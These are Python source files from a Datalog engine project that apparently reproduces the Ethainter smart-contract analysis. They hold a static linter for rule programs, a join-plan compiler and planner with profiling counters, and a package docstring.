"""Static linter for Datalog rule programs.

The paper's analysis is "several hundred declarative rules"; a typo in one
of them (an unbound head variable, an arity mismatch, negation through
recursion) silently changes the analysis semantics — if it surfaces at all,
it surfaces at evaluation time, after contracts have already been
"analyzed".  This module checks rule programs *statically*:

* **range restriction** — every head variable bound in a positive body
  literal, and no wildcard in a rule head (``substitute`` would die),
* **negation safety** — every variable of a negated literal bound
  positively, and no wildcard under negation (the engine's membership
  probe cannot execute it; reported as ``wildcard-negation``),
* **arity consistency** — every atom's arity agrees with the relation's
  ``.decl`` (or, for undeclared relations, its first use),
* **duplicate / unused relations** — re-declared relations, declared
  relations that appear in no rule, and literally duplicated rules,
* **stratification preview** — the strata the engine would evaluate,
  reusing the engine's SCC machinery; negation inside a recursive
  component is reported per offending rule instead of one opaque
  exception,
* **DRed compatibility** — negation on a relation in the same recursive
  stratum as the head breaks the engine's incremental delete-rederive
  maintenance (``Engine.apply_changes``): rederivation would read the
  negative subgoal mid-repair.  Reported as ``dred-negation`` alongside
  the stratification error; negation on lower strata is DRed-safe.

``repro lint-rules`` runs this over the shipped rule programs
(:mod:`repro.core.datalog_rules` and :mod:`repro.core.bytecode_datalog`)
and over ``.dl`` files; CI runs the shipped check on every push.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import lru_cache
from typing import Dict, List, Sequence, Set, Tuple

from repro.datalog.engine import (
    condensation_levels,
    rule_dependency_graph,
    strongly_connected_components,
)
from repro.datalog.parser import (
    DatalogSyntaxError,
    ParsedProgram,
    parse_program_lenient,
)
from repro.datalog.terms import Literal, Rule, Variable

ERROR = "error"
WARNING = "warning"

# Codes that make ``repro lint-rules`` exit non-zero.
_ERROR_CODES = {
    "syntax-error",
    "arity-mismatch",
    "unsafe-rule",
    "wildcard-head",
    "wildcard-negation",
    "negation-in-recursion",
    "dred-negation",
    "cross-arity-mismatch",
}


@dataclass(frozen=True)
class LintFinding:
    """One diagnostic, anchored to a source name and 1-based line."""

    source: str
    line: int
    code: str
    severity: str  # ERROR | WARNING
    message: str

    def render(self) -> str:
        return "%s:%d: [%s] %s: %s" % (
            self.source,
            self.line,
            self.severity,
            self.code,
            self.message,
        )


def format_findings(findings: Sequence[LintFinding]) -> str:
    """One rendered diagnostic per line."""
    return "\n".join(finding.render() for finding in findings)


def has_errors(findings: Sequence[LintFinding]) -> bool:
    """Whether any finding is error severity (non-zero exit for the CLI)."""
    return any(finding.severity == ERROR for finding in findings)


# ------------------------------------------------------------------- checks


def _check_rules(
    rules: Sequence[Rule], program: ParsedProgram, source: str
) -> List[LintFinding]:
    findings: List[LintFinding] = []

    # Wildcards in rule heads crash substitution at evaluation time.
    for rule in rules:
        for arg in rule.head.args:
            if isinstance(arg, Variable) and arg.is_wildcard:
                findings.append(
                    LintFinding(
                        source=source,
                        line=rule.line,
                        code="wildcard-head",
                        severity=ERROR,
                        message="wildcard in rule head: %r" % rule,
                    )
                )
                break

    # Duplicate rules: same head and body, stated twice.
    seen: Dict[str, int] = {}
    for rule in rules:
        rendering = repr(rule)
        if rendering in seen:
            findings.append(
                LintFinding(
                    source=source,
                    line=rule.line,
                    code="duplicate-rule",
                    severity=WARNING,
                    message="rule already stated at line %d: %r"
                    % (seen[rendering], rule),
                )
            )
        else:
            seen[rendering] = rule.line

    # Declared-but-unused relations.
    used: Set[str] = set()
    for rule in rules:
        used.add(rule.head.relation)
        for item in rule.body:
            if isinstance(item, Literal):
                used.add(item.atom.relation)
    for name, arity in sorted(program.declarations.items()):
        if name not in used:
            findings.append(
                LintFinding(
                    source=source,
                    line=program.declaration_lines.get(name, 0),
                    code="unused-relation",
                    severity=WARNING,
                    message="relation %s/%d is declared but never used"
                    % (name, arity),
                )
            )

    # Stratifiability: negation inside a recursive component, reported per
    # offending rule with its line (the engine machinery, but diagnostic).
    relations, edges = rule_dependency_graph(rules)
    successors: Dict[str, Set[str]] = {rel: set() for rel in relations}
    for edge_source, edge_target, _ in edges:
        successors[edge_source].add(edge_target)
    components, component_of = strongly_connected_components(
        relations, successors
    )
    recursive_components: Set[int] = set()
    for position, component in enumerate(components):
        if len(component) > 1:
            recursive_components.add(position)
        elif component[0] in successors.get(component[0], ()):
            recursive_components.add(position)
    for rule in rules:
        head_component = component_of.get(rule.head.relation)
        for item in rule.body:
            if not (isinstance(item, Literal) and item.negated):
                continue
            negated_component = component_of.get(item.atom.relation)
            if negated_component == head_component:
                findings.append(
                    LintFinding(
                        source=source,
                        line=rule.line,
                        code="negation-in-recursion",
                        severity=ERROR,
                        message="negation of %s is recursive with %s in %r"
                        % (item.atom.relation, rule.head.relation, rule),
                    )
                )
            # DRed compatibility: rederivation cannot run a rule whose
            # negative subgoal changes while its own stratum is being
            # repaired, so negation on a relation in the same recursive
            # stratum as the head breaks incremental maintenance outright
            # (on top of the stratification problem reported above).
            # Negation on *lower* strata is DRed-safe: apply_changes()
            # sees them fully settled (or falls back to recomputation).
            if (
                negated_component == head_component
                and head_component in recursive_components
            ):
                findings.append(
                    LintFinding(
                        source=source,
                        line=rule.line,
                        code="dred-negation",
                        severity=ERROR,
                        message="DRed cannot rederive %s: %r negates %s "
                        "inside the same recursive stratum"
                        % (rule.head.relation, rule, item.atom.relation),
                    )
                )
    return findings


def stratification_preview(rules: Sequence[Rule]) -> List[List[str]]:
    """The strata (groups of relations) the engine would evaluate, in
    order.  Computable even for non-stratifiable programs (the offending
    component simply appears as one stratum)."""
    relations, edges = rule_dependency_graph(rules)
    successors: Dict[str, Set[str]] = {rel: set() for rel in relations}
    for source, target, _ in edges:
        successors[source].add(target)
    components, component_of = strongly_connected_components(relations, successors)
    level = condensation_levels(components, component_of, edges)
    max_level = max(level.values(), default=0)
    strata: List[List[str]] = [[] for _ in range(max_level + 1)]
    for position, component in enumerate(components):
        strata[level.get(position, 0)].extend(sorted(component))
    return [sorted(stratum) for stratum in strata if stratum]


def lint_text(text: str, source: str = "<datalog>") -> List[LintFinding]:
    """Lint one textual Datalog program."""
    try:
        program = parse_program_lenient(text)
    except DatalogSyntaxError as error:
        return [
            LintFinding(
                source=source,
                line=getattr(error, "line", 0),
                code="syntax-error",
                severity=ERROR,
                message=str(error),
            )
        ]
    findings = []
    for issue in program.issues:
        code = issue.code
        # Wildcards under negation surface from rule safety as generic
        # unsafe-rule violations; give them their own code so the engine's
        # PlanningError has a matching static diagnostic.
        if code == "unsafe-rule" and "wildcard in negated literal" in issue.message:
            code = "wildcard-negation"
        findings.append(
            LintFinding(
                source=source,
                line=issue.line,
                code=code,
                severity=ERROR if code in _ERROR_CODES else WARNING,
                message=issue.message,
            )
        )
    findings.extend(_check_rules(program.rules, program, source))
    findings.sort(key=lambda finding: (finding.line, finding.code))
    return findings


# ----------------------------------------------------- cross-program checks


def lint_cross_program(
    programs: Sequence[Tuple[str, str]],
) -> List[LintFinding]:
    """Checks that only make sense *across* a set of rule programs.

    With the cross-contract strata, one relation (``TaintedStorage``,
    ``CompromisedGuard``, ...) is now defined in one program text and
    extended in another; two whole-set invariants keep that composition
    honest:

    * **cross-arity-mismatch** (error) — a relation ``.decl``ared with
      different arities in different programs: the texts can never be
      concatenated and evaluated together, and a fact emitted under one
      program's shape silently never joins under the other's.
    * **unread-edb** (warning) — a relation ``.decl``ared somewhere but
      read by *no* rule in *any* program: an input relation the Python
      side dutifully computes and loads that no rule will ever consume
      (or a declaration left behind by a deleted rule).

    Programs that fail to parse are skipped here — :func:`lint_text`
    already reports their syntax errors.
    """
    findings: List[LintFinding] = []
    # relation -> list of (source, line, arity) declarations
    declarations: Dict[str, List[Tuple[str, int, int]]] = {}
    heads: Set[str] = set()
    reads: Set[str] = set()
    for source, text in programs:
        try:
            program = parse_program_lenient(text)
        except DatalogSyntaxError:
            continue
        for name, arity in program.declarations.items():
            declarations.setdefault(name, []).append(
                (source, program.declaration_lines.get(name, 0), arity)
            )
        for rule in program.rules:
            heads.add(rule.head.relation)
            for item in rule.body:
                if isinstance(item, Literal):
                    reads.add(item.atom.relation)

    for name, decls in sorted(declarations.items()):
        arities = sorted({arity for _, _, arity in decls})
        if len(arities) > 1:
            shapes = ", ".join(
                "%s:%d declares /%d" % (source, line, arity)
                for source, line, arity in decls
            )
            for source, line, _ in decls:
                findings.append(
                    LintFinding(
                        source=source,
                        line=line,
                        code="cross-arity-mismatch",
                        severity=ERROR,
                        message="relation %s declared with conflicting "
                        "arities across programs (%s)" % (name, shapes),
                    )
                )
        if name not in reads:
            # Declared relations are EDB-or-IDB inputs by intent; one no
            # rule reads is dead weight even if some rule *derives* it.
            for source, line, arity in decls:
                findings.append(
                    LintFinding(
                        source=source,
                        line=line,
                        code="unread-edb",
                        severity=WARNING,
                        message="relation %s/%d is declared but no rule "
                        "in any shipped program reads it" % (name, arity),
                    )
                )
    findings.sort(key=lambda finding: (finding.source, finding.line, finding.code))
    return findings


# ------------------------------------------------------------ shipped rules

# Extra programs registered at runtime (tests, experiments, plugged-in rule
# sets).  Ordered so shipped_programs() output stays deterministic.
_REGISTERED_PROGRAMS: Dict[str, str] = {}


def register_program(name: str, text: str) -> None:
    """Add a rule program to the shipped set (and invalidate the cached
    finding count — a stale count would hide the new program's lint)."""
    _REGISTERED_PROGRAMS[name] = text
    shipped_finding_count.cache_clear()


def unregister_program(name: str) -> None:
    """Remove a registered rule program (no-op if absent)."""
    if _REGISTERED_PROGRAMS.pop(name, None) is not None:
        shipped_finding_count.cache_clear()


def shipped_programs() -> List[Tuple[str, str]]:
    """(name, text) of every rule program this build actually evaluates."""
    from repro.core.bytecode_datalog import (
        CONSERVATIVE_RULES,
        CORE_RULES,
        REENTRANCY_RULES,
        WRITE2_RULES,
    )
    from repro.core.datalog_rules import ETHAINTER_RULES
    from repro.core.linkage import CROSS_CONTRACT_RULES

    programs = [
        ("core/datalog_rules.py:ETHAINTER_RULES", ETHAINTER_RULES),
        ("core/bytecode_datalog.py:CORE_RULES", CORE_RULES + WRITE2_RULES),
        (
            "core/bytecode_datalog.py:CONSERVATIVE_RULES",
            CORE_RULES + WRITE2_RULES + CONSERVATIVE_RULES,
        ),
        (
            "core/bytecode_datalog.py:REENTRANCY_RULES",
            CORE_RULES + WRITE2_RULES + REENTRANCY_RULES,
        ),
        (
            "core/linkage.py:CROSS_CONTRACT_RULES",
            CORE_RULES + WRITE2_RULES + CROSS_CONTRACT_RULES,
        ),
    ]
    programs.extend(_REGISTERED_PROGRAMS.items())
    return programs


def lint_shipped() -> List[LintFinding]:
    """Lint every shipped rule program, plus the cross-program checks."""
    programs = shipped_programs()
    findings: List[LintFinding] = []
    for name, text in programs:
        findings.extend(lint_text(text, source=name))
    findings.extend(lint_cross_program(programs))
    return findings


@lru_cache(maxsize=1)
def shipped_finding_count() -> int:
    """Cached count of shipped-rules findings (surfaced per analysis
    result in the precision counters).  :func:`register_program` /
    :func:`unregister_program` invalidate the cache, so the count always
    reflects the current program set."""
    return len(lint_shipped())
