"""Query planning and compilation for the Datalog engine.

The paper's whole-chain run rests on Soufflé *compiling* Datalog rules to
specialized join code (§5–6); an interpreter that rediscovers bound
positions and allocates closures on every derivation cannot keep up.  This
module performs the equivalent ahead-of-time work for :class:`~repro.datalog.engine.Engine`:

* **Join ordering** — body literals are reordered once per rule by a
  sideways-information-passing (SIP) heuristic: at each step the literal
  with the most bound argument positions wins, ties broken by estimated
  relation size (smaller first) and then by source order.  Filters and
  negated literals are attached as *guards* to the earliest generator that
  binds all of their variables, so they prune as soon as possible.
* **Slot compilation** — rule variables are mapped to dense integer slots;
  at evaluation time a binding is a flat list indexed by slot, not a dict
  keyed by :class:`~repro.datalog.terms.Variable`.
* **Index signatures** — every join step precomputes its bound positions
  and key layout, so the engine registers the needed hash indexes eagerly
  (before the fixpoint starts) instead of building them lazily mid-round.
* **Delta variants** — for each recursive body position, a separate plan
  variant treats that literal as the semi-naive delta: it is preferred
  early in the join order (deltas are small), and when probed it uses a
  per-round delta index, so both sides of a recursive join are indexed.

Plans are *compiled* once (static structure) and *bound* once per
evaluation (constants interned against the database's symbol table, index
and relation references captured); the engine then executes the bound plan
with a flat, non-recursive interpreter.  :class:`EngineStats` is the
observability record the engine fills while executing plans.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional, Sequence, Set, Tuple

from repro.datalog.terms import Filter, Literal, Rule, Variable


class PlanningError(ValueError):
    """A rule cannot be compiled into a join plan.

    Raised for rules that would die with an opaque ``KeyError`` in a naive
    interpreter: a wildcard in a negated literal, a negated or filter
    variable no positive literal ever binds, or an unbindable head
    variable.  Safety-checked rules never trigger this; rules built with
    ``check=False`` (the linter's path) can.
    """


@dataclass
class EngineStats:
    """Per-engine observability counters (the ``--profile`` payload).

    ``rule_derivations`` counts *new* facts per rule (first derivations);
    ``rule_matches`` counts every head tuple a rule produced, including
    duplicates — the gap between the two is re-derivation overhead.
    ``join_probes`` counts candidate-source fetches (index probes plus
    relation/delta scans), ``index_hits`` the full-relation index probes
    that returned at least one candidate.

    The columnar executor fills ``batches`` (join steps executed
    block-wise), ``batch_rows`` (rows surviving each step), and
    ``rule_batches`` (batch executions per rule).  Incremental repair
    (:meth:`~repro.datalog.engine.Engine.apply_changes`) fills
    ``incremental_applies``, ``overdeleted_facts``/``rederived_facts``
    (the DRed delete/restore pair), ``delta_derived_facts`` and
    ``rule_delta_derivations`` (facts added by delta propagation, per
    rule), ``retracted_facts`` (net facts leaving the database), and
    ``strata_recomputed`` (strata that fell back to a from-scratch rerun
    because a negated dependency changed).
    """

    evaluations: int = 0
    iterations: int = 0
    stratum_iterations: List[int] = field(default_factory=list)
    derived_facts: int = 0
    matches: int = 0
    join_probes: int = 0
    index_probes: int = 0
    index_hits: int = 0
    index_builds: int = 0
    delta_index_builds: int = 0
    batches: int = 0
    batch_rows: int = 0
    incremental_applies: int = 0
    overdeleted_facts: int = 0
    rederived_facts: int = 0
    delta_derived_facts: int = 0
    retracted_facts: int = 0
    strata_recomputed: int = 0
    rule_derivations: Dict[str, int] = field(default_factory=dict)
    rule_matches: Dict[str, int] = field(default_factory=dict)
    rule_batches: Dict[str, int] = field(default_factory=dict)
    rule_delta_derivations: Dict[str, int] = field(default_factory=dict)

    def count_rule(self, rule_key: str, matches: int, derived: int) -> None:
        """Fold one plan execution's per-rule counters in."""
        if matches:
            self.matches += matches
            self.rule_matches[rule_key] = (
                self.rule_matches.get(rule_key, 0) + matches
            )
        if derived:
            self.derived_facts += derived
            self.rule_derivations[rule_key] = (
                self.rule_derivations.get(rule_key, 0) + derived
            )

    def as_dict(self) -> Dict[str, Any]:
        """JSON-ready snapshot (per-rule maps sorted by count, descending)."""
        def ranked(counter: Dict[str, int]) -> Dict[str, int]:
            return dict(
                sorted(counter.items(), key=lambda item: (-item[1], item[0]))
            )

        payload = self.scalar_counters()
        payload["stratum_iterations"] = list(self.stratum_iterations)
        payload["rule_derivations"] = ranked(self.rule_derivations)
        payload["rule_matches"] = ranked(self.rule_matches)
        payload["rule_batches"] = ranked(self.rule_batches)
        payload["rule_delta_derivations"] = ranked(self.rule_delta_derivations)
        return payload

    def scalar_counters(self) -> Dict[str, int]:
        """The flat integer counters only (batch summaries, CI artifacts)."""
        return {
            "evaluations": self.evaluations,
            "iterations": self.iterations,
            "derived_facts": self.derived_facts,
            "matches": self.matches,
            "join_probes": self.join_probes,
            "index_probes": self.index_probes,
            "index_hits": self.index_hits,
            "index_builds": self.index_builds,
            "delta_index_builds": self.delta_index_builds,
            "batches": self.batches,
            "batch_rows": self.batch_rows,
            "incremental_applies": self.incremental_applies,
            "overdeleted_facts": self.overdeleted_facts,
            "rederived_facts": self.rederived_facts,
            "delta_derived_facts": self.delta_derived_facts,
            "retracted_facts": self.retracted_facts,
            "strata_recomputed": self.strata_recomputed,
        }


# ------------------------------------------------------------ plan structure
#
# A *spec* is a tuple of (from_slot, value) pairs: from_slot=True reads the
# environment slot ``value``; from_slot=False is a constant (raw in the
# compiled plan, interned once the plan is bound to a database).

Spec = Tuple[Tuple[bool, Any], ...]


class JoinStep:
    """One positive body literal, compiled: where its candidates come from
    (full relation or delta, scan or index probe) and how a candidate fact
    extends the environment (``outs``) or is checked against it
    (``checks``).

    The columnar executor additionally uses ``arity`` (to shape delta
    columns), ``check_pairs`` (same-literal repeated-variable checks as
    column-pair comparisons), ``live_after`` (the slots worth
    materializing after this step — everything later steps, guards, or
    the head still read), and the bound ``columnar``/``postings``
    references into the database's column store."""

    __slots__ = (
        "relation",
        "delta",
        "positions",
        "key_spec",
        "static_key",
        "outs",
        "checks",
        "check_pairs",
        "guards",
        "orig_index",
        "arity",
        "live_after",
        "rel_set",
        "index",
        "columnar",
        "postings",
    )

    def __init__(
        self,
        relation: str,
        delta: bool,
        positions: Tuple[int, ...],
        key_spec: Spec,
        outs: Tuple[Tuple[int, int], ...],
        checks: Tuple[Tuple[int, int], ...],
        orig_index: int,
        arity: int = 0,
        check_pairs: Tuple[Tuple[int, int], ...] = (),
    ):
        self.relation = relation
        self.delta = delta
        self.positions = positions
        self.key_spec = key_spec
        self.static_key: Optional[Tuple] = None
        self.outs = outs
        self.checks = checks
        self.check_pairs = check_pairs
        self.guards: Tuple[Any, ...] = ()
        self.orig_index = orig_index
        self.arity = arity
        self.live_after: Tuple[int, ...] = ()
        # Bound per evaluation: direct references into the database.
        self.rel_set: Optional[Set[Tuple]] = None
        self.index: Optional[Dict[Tuple, List[Tuple]]] = None
        self.columnar: Optional[Any] = None
        self.postings: Optional[Tuple[Dict[int, Any], ...]] = None

    def __repr__(self) -> str:
        source = "Δ" if self.delta else ""
        return "<join %s%s key=%r>" % (source, self.relation, self.positions)


class NegGuard:
    """A negated literal, compiled to a full-tuple membership probe."""

    __slots__ = ("relation", "key_spec", "orig_index", "rel_set")

    def __init__(self, relation: str, key_spec: Spec, orig_index: int):
        self.relation = relation
        self.key_spec = key_spec
        self.orig_index = orig_index
        self.rel_set: Optional[Set[Tuple]] = None

    def __repr__(self) -> str:
        return "<neg %s>" % self.relation


class FilterGuard:
    """A Python filter predicate, compiled; slot values are decoded back to
    raw constants before the predicate sees them."""

    __slots__ = ("predicate", "arg_spec", "name", "orig_index")

    def __init__(self, predicate: Callable[..., bool], arg_spec: Spec, name: str, orig_index: int):
        self.predicate = predicate
        self.arg_spec = arg_spec
        self.name = name
        self.orig_index = orig_index

    def __repr__(self) -> str:
        return "<filter %s>" % self.name


class PlanVariant:
    """One executable ordering of a rule's body.

    ``delta_relation`` names the relation the variant's delta step scans
    (None for the seed/naive variant).  ``prelude`` holds guards whose
    variables are bound before any generator runs (constant-only filters
    and negations)."""

    __slots__ = (
        "rule",
        "key",
        "delta_position",
        "delta_relation",
        "prelude",
        "steps",
        "head_relation",
        "head_spec",
        "static_head",
        "n_slots",
        "bound_db",
    )

    def __init__(
        self,
        rule: Rule,
        delta_position: Optional[int],
        prelude: Tuple[Any, ...],
        steps: Tuple[JoinStep, ...],
        head_spec: Spec,
        n_slots: int,
    ):
        self.rule = rule
        self.key: Optional[str] = None  # set by RulePlan (shared repr)
        self.delta_position = delta_position
        self.delta_relation: Optional[str] = None
        if delta_position is not None:
            self.delta_relation = rule.body[delta_position].atom.relation
        self.prelude = prelude
        self.steps = steps
        self.head_relation = rule.head.relation
        self.head_spec = head_spec
        self.static_head: Optional[Tuple] = None
        self.n_slots = n_slots
        # Which database this variant's specs were interned against;
        # binding is idempotent per database (see Engine._bind_variant).
        self.bound_db: Optional[Any] = None

    def order(self) -> List[str]:
        """Relation names in execution order (tests / debugging)."""
        return [step.relation for step in self.steps]

    def __repr__(self) -> str:
        return "<plan %s :- %s>" % (
            self.head_relation,
            ", ".join(self.order()) or "true",
        )


class RulePlan:
    """All compiled variants of one rule: the seed (all-full) variant plus
    one delta-specialized variant per recursive body position."""

    __slots__ = ("rule", "key", "seed", "delta_variants")

    def __init__(
        self,
        rule: Rule,
        seed: PlanVariant,
        delta_variants: Dict[int, PlanVariant],
    ):
        self.rule = rule
        self.key = repr(rule)
        self.seed = seed
        self.delta_variants = delta_variants
        seed.key = self.key
        for variant in delta_variants.values():
            variant.key = self.key

    def variants(self) -> List[PlanVariant]:
        """Every variant (seed first)."""
        return [self.seed] + list(self.delta_variants.values())

    def __repr__(self) -> str:
        return "<rule-plan %s (%d delta variant(s))>" % (
            self.key,
            len(self.delta_variants),
        )


# -------------------------------------------------------------- compilation


def _guard_variables(item: Any) -> List[Variable]:
    """Non-wildcard variables a guard (filter or negated literal) reads."""
    args = item.atom.args if isinstance(item, Literal) else item.args
    return [
        arg for arg in args if isinstance(arg, Variable) and not arg.is_wildcard
    ]


def _bound_argument_count(literal: Literal, bound: Set[Variable]) -> int:
    """How many of the literal's argument positions are bound (constants
    always are; wildcards never)."""
    count = 0
    for arg in literal.atom.args:
        if isinstance(arg, Variable):
            if not arg.is_wildcard and arg in bound:
                count += 1
        else:
            count += 1
    return count


def _order_body(
    rule: Rule,
    delta_position: Optional[int],
    size_of: Callable[[str], int],
) -> Tuple[List[Tuple[int, Any]], List[Tuple[int, Any]], Dict[int, List[Tuple[int, Any]]]]:
    """Schedule the rule body: returns ``(generators, prelude_guards,
    guards_after)`` where ``generators`` is the ordered list of
    ``(orig_index, Literal)`` positive literals, ``prelude_guards`` the
    guards runnable before any generator, and ``guards_after`` maps a
    generator's orig_index to the guards that become runnable right after
    it."""
    positives: List[Tuple[int, Literal]] = []
    guards: List[Tuple[int, Any]] = []
    for index, item in enumerate(rule.body):
        if isinstance(item, Literal) and not item.negated:
            positives.append((index, item))
        else:
            if isinstance(item, Literal):
                for arg in item.atom.args:
                    if isinstance(arg, Variable) and arg.is_wildcard:
                        raise PlanningError(
                            "wildcard in negated literal %r of rule %r"
                            % (item, rule)
                        )
            guards.append((index, item))

    bound: Set[Variable] = set()
    generators: List[Tuple[int, Literal]] = []
    prelude: List[Tuple[int, Any]] = []
    guards_after: Dict[int, List[Tuple[int, Any]]] = {}

    def flush_guards(after: Optional[int]) -> None:
        nonlocal guards
        still_pending = []
        for entry in guards:
            if all(variable in bound for variable in _guard_variables(entry[1])):
                if after is None:
                    prelude.append(entry)
                else:
                    guards_after.setdefault(after, []).append(entry)
            else:
                still_pending.append(entry)
        guards = still_pending

    def schedule(index: int, literal: Literal) -> None:
        generators.append((index, literal))
        bound.update(literal.atom.variables())
        flush_guards(index)

    flush_guards(None)
    remaining = list(positives)
    if delta_position is not None:
        chosen = next(
            entry for entry in remaining if entry[0] == delta_position
        )
        remaining.remove(chosen)
        # The delta literal still competes in the ordering, but with an
        # effective size of -1 it is preferred at equal bound counts.
        remaining.insert(0, chosen)

    pending = remaining
    while pending:
        best = None
        best_score = None
        for entry in pending:
            index, literal = entry
            size = -1 if index == delta_position else size_of(literal.atom.relation)
            score = (_bound_argument_count(literal, bound), -size, -index)
            if best_score is None or score > best_score:
                best, best_score = entry, score
        pending = [entry for entry in pending if entry is not best]
        schedule(*best)

    if guards:
        index, item = guards[0]
        unbound = [
            variable
            for variable in _guard_variables(item)
            if variable not in bound
        ]
        kind = "negated literal" if isinstance(item, Literal) else "filter"
        raise PlanningError(
            "variable(s) %s of %s %r are never bound by a positive literal "
            "in rule %r" % (unbound, kind, item, rule)
        )
    return generators, prelude, guards_after


def _compile_guard(item: Any, orig_index: int, slot_of: Dict[Variable, int]) -> Any:
    """Compile a filter or negated literal into its guard object."""
    if isinstance(item, Literal):
        key_spec = []
        for arg in item.atom.args:
            if isinstance(arg, Variable):
                key_spec.append((True, slot_of[arg]))
            else:
                key_spec.append((False, arg))
        return NegGuard(item.atom.relation, tuple(key_spec), orig_index)
    arg_spec = []
    for arg in item.args:
        if isinstance(arg, Variable):
            if arg.is_wildcard or arg not in slot_of:
                raise PlanningError(
                    "filter %r reads variable %r that is never bound"
                    % (item, arg)
                )
            arg_spec.append((True, slot_of[arg]))
        else:
            arg_spec.append((False, arg))
    return FilterGuard(item.predicate, tuple(arg_spec), item.name, orig_index)


def compile_variant(
    rule: Rule,
    delta_position: Optional[int] = None,
    size_of: Optional[Callable[[str], int]] = None,
) -> PlanVariant:
    """Compile one ordering of ``rule`` (seed, or delta-specialized on the
    body literal at ``delta_position``)."""
    if size_of is None:
        size_of = lambda relation: 0  # noqa: E731 - trivial default
    generators, prelude_items, guards_after = _order_body(
        rule, delta_position, size_of
    )

    slot_of: Dict[Variable, int] = {}
    steps: List[JoinStep] = []
    for orig_index, literal in generators:
        positions: List[int] = []
        key_spec: List[Tuple[bool, Any]] = []
        outs: List[Tuple[int, int]] = []
        checks: List[Tuple[int, int]] = []
        check_pairs: List[Tuple[int, int]] = []
        new_here: Set[Variable] = set()
        out_position_of: Dict[int, int] = {}
        for position, arg in enumerate(literal.atom.args):
            if isinstance(arg, Variable):
                if arg.is_wildcard:
                    continue
                slot = slot_of.get(arg)
                if slot is None:
                    slot = slot_of[arg] = len(slot_of)
                    new_here.add(arg)
                    outs.append((position, slot))
                    out_position_of[slot] = position
                elif arg in new_here:
                    # Repeated occurrence bound earlier in this same
                    # literal: compare, don't probe.  ``check_pairs``
                    # records the same comparison as a column pair for
                    # the batch executor.
                    checks.append((position, slot))
                    check_pairs.append((position, out_position_of[slot]))
                else:
                    positions.append(position)
                    key_spec.append((True, slot))
            else:
                positions.append(position)
                key_spec.append((False, arg))
        step = JoinStep(
            relation=literal.atom.relation,
            delta=orig_index == delta_position,
            positions=tuple(positions),
            key_spec=tuple(key_spec),
            outs=tuple(outs),
            checks=tuple(checks),
            orig_index=orig_index,
            arity=literal.atom.arity,
            check_pairs=tuple(check_pairs),
        )
        step.guards = tuple(
            _compile_guard(item, guard_index, slot_of)
            for guard_index, item in guards_after.get(orig_index, ())
        )
        steps.append(step)

    prelude = tuple(
        _compile_guard(item, guard_index, slot_of)
        for guard_index, item in prelude_items
    )

    head_spec: List[Tuple[bool, Any]] = []
    for arg in rule.head.args:
        if isinstance(arg, Variable):
            if arg.is_wildcard:
                raise PlanningError("wildcard in rule head: %r" % rule)
            slot = slot_of.get(arg)
            if slot is None:
                raise PlanningError(
                    "head variable %r of rule %r is never bound" % (arg, rule)
                )
            head_spec.append((True, slot))
        else:
            head_spec.append((False, arg))

    _assign_live_slots(steps, tuple(head_spec))
    return PlanVariant(
        rule=rule,
        delta_position=delta_position,
        prelude=prelude,
        steps=tuple(steps),
        head_spec=tuple(head_spec),
        n_slots=len(slot_of),
    )


def _guard_slots(guard: Any) -> Set[int]:
    """Environment slots a compiled guard reads."""
    spec = guard.key_spec if isinstance(guard, NegGuard) else guard.arg_spec
    return {value for from_slot, value in spec if from_slot}


def _assign_live_slots(steps: List[JoinStep], head_spec: Spec) -> None:
    """Backward liveness pass for the batch executor: ``live_after`` of a
    step is every slot that a later step's key/guards or the head still
    reads, restricted to slots actually bound by then — the batch
    materializes exactly these columns and drops the rest."""
    needed: Set[int] = {value for from_slot, value in head_spec if from_slot}
    live: List[Set[int]] = [set()] * len(steps)
    for index in range(len(steps) - 1, -1, -1):
        step = steps[index]
        wanted = set(needed)
        for guard in step.guards:
            wanted |= _guard_slots(guard)
        live[index] = wanted
        out_slots = {slot for _, slot in step.outs}
        key_slots = {value for from_slot, value in step.key_spec if from_slot}
        needed = (wanted - out_slots) | key_slots
    bound: Set[int] = set()
    for index, step in enumerate(steps):
        bound |= {slot for _, slot in step.outs}
        step.live_after = tuple(sorted(live[index] & bound))


def compile_rule(
    rule: Rule,
    recursive_relations: Optional[Set[str]] = None,
    size_of: Optional[Callable[[str], int]] = None,
) -> RulePlan:
    """Compile ``rule`` into its seed variant plus one delta variant per
    body literal whose relation is in ``recursive_relations`` (the heads of
    the rule's stratum)."""
    recursive_relations = recursive_relations or set()
    seed = compile_variant(rule, None, size_of)
    delta_variants: Dict[int, PlanVariant] = {}
    for position, item in enumerate(rule.body):
        if (
            isinstance(item, Literal)
            and not item.negated
            and item.atom.relation in recursive_relations
        ):
            delta_variants[position] = compile_variant(rule, position, size_of)
    return RulePlan(rule, seed, delta_variants)


def compile_strata(
    strata: Sequence[Sequence[Rule]],
    size_of: Optional[Callable[[str], int]] = None,
    all_deltas: bool = False,
) -> List[List[RulePlan]]:
    """Compile every rule of every stratum; delta variants are generated
    for body literals recursive within their stratum.

    With ``all_deltas=True`` every positive body literal gets a delta
    variant, not just same-stratum recursive ones — the shape DRed
    incremental maintenance needs, where changes can arrive in *any*
    body relation (EDB or lower-stratum IDB)."""
    plans: List[List[RulePlan]] = []
    for stratum in strata:
        heads = {rule.head.relation for rule in stratum}
        stratum_plans: List[RulePlan] = []
        for rule in stratum:
            if all_deltas:
                delta_relations = {
                    item.atom.relation
                    for item in rule.body
                    if isinstance(item, Literal) and not item.negated
                }
            else:
                delta_relations = heads
            stratum_plans.append(compile_rule(rule, delta_relations, size_of))
        plans.append(stratum_plans)
    return plans
