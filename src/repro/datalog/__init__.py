"""A Datalog engine with semi-naive evaluation and stratified negation.

Stands in for the Soufflé engine (Jordan et al., CAV'16) that executes the
Ethainter rules in the paper.  Supports:

* mutually recursive rules evaluated semi-naively (delta relations),
* stratified negation (negative dependencies may not occur inside a
  recursive component — checked at stratification time),
* compiled join plans (:mod:`repro.datalog.planner`): literals reordered
  by a sideways-information-passing heuristic, constants and facts
  interned to dense ints, indexes registered eagerly, per-rule
  :class:`~repro.datalog.planner.EngineStats` profiling,
* wildcard ``_`` arguments, constants, and Python filter predicates,
* a textual parser for a Soufflé-like surface syntax (``:-``, ``!``, ``.``)
  with parse-time arity checking,
* a program linter (:mod:`repro.datalog.lint`) covering range restriction,
  negation safety, arity consistency, unused relations, and a
  stratification preview.

The engine is deliberately generic: the Ethainter core rules
(:mod:`repro.core.datalog_rules`) and the abstract-language formalism both
run on it, and its fixpoints are cross-checked against hand-written
fixpoint code in the test suite.
"""

